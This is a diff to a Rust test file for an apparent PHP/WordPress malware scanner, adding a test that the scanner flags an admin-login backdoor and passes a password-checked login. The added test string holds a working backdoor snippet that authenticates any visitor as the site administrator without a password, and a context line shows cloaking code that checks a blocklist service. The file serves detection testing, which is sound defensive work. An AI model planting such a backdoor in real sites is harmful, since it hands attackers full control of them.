@@ -68,6 +68,17 @@ fn a_visitor_logged_in_as_administrator() {
 }
 
 #[test]
+fn a_login_without_a_password_is_a_backdoor() {
+    let src = "<?php require 'wp-load.php'; $u = get_users(array('role' => 'administrator'));\n\
+               wp_set_current_user($u[0]->ID); wp_set_auth_cookie($u[0]->ID); wp_redirect(admin_url()); exit;";
+    assert_eq!(found(src), [(Why::AdminBackdoor, Danger::High)]);
+    // A script that checks the password first.
+    let checked = "<?php require 'wp-load.php'; $u = get_user_by('login', $_POST['log']);\n\
+                   if ($u && wp_check_password($_POST['pwd'], $u->user_pass, $u->ID)) { wp_set_auth_cookie($u->ID); }";
+    assert!(found(checked).is_empty());
+}
+
+#[test]
 fn a_doorway_checking_its_own_listing() {
     let check = "<?php $r = file_get_contents('https://safebrowsing.example.com/check?site=' . $_SERVER['HTTP_HOST']); if ($r) exit;";
     assert_eq!(found(check), [(Why::ChecksBlocklists, Danger::High)]);
@@ -174,6 +185,11 @@ fn each_fixture_is_reported_for_its_family() {
             Why::InjectsHiddenCode,
         ),
         ("log_wiper.php", include_str!("../../../../tests/fixtures/sweep/malicious/log_wiper.php"), Why::ErasesLogs),
+        (
+            "login_as_admin_without_password.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/login_as_admin_without_password.php"),
+            Why::AdminBackdoor,
+        ),
         (
             "wordpress_auto_login.php",
             include_str!("../../../../tests/fixtures/sweep/malicious/wordpress_auto_login.php"),
